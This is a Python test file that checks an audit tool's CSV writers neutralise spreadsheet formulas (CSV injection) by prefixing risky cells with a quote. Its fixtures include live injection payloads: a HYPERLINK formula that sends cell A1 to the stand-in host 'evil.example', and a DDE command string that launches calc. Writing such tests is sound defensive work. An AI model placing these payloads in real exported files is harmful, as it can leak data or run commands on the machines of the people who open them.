"""The audit's CSV never hands a spreadsheet a formula (CSV injection)."""

from __future__ import annotations

import io

import pandas as pd

from orchestration.privacy.csv_safe import csv_safe, safe_cell


def test_formula_cells_are_written_as_text():
    frame = pd.DataFrame({
        "resource": ['=HYPERLINK("http://evil.example/?"&A1,"open")', "student_exam", "+cmd|' /C calc'!A0",
                     "-2+3", "@SUM(A1:A9)", "\tx", None],
        "count": [1, 2, 3, 4, 5, 6, 7],
    })
    back = pd.read_csv(io.StringIO(csv_safe(frame).to_csv(index=False)), keep_default_na=False)
    starts = [v[:1] for v in back["resource"]]
    assert starts == ["'", "s", "'", "'", "'", "'", ""]
    assert back["resource"][0] == "'" + frame["resource"][0]  # the value stays readable
    assert list(back["count"]) == [1, 2, 3, 4, 5, 6, 7]


def test_every_csv_writer_neutralises_formulas():
    """The governance seeds (csv module) use the same rule as the audit (pandas)."""
    from orchestration.governance.policy import seed_csv

    text = seed_csv([{"name": "=1+1", "value": "ok"}, {"name": "@x", "value": "-y"}])
    assert text.splitlines()[1:] == ["'=1+1,ok", "'@x,'-y"]
    assert safe_cell(-3) == -3 and safe_cell("\rA") == "'\rA"
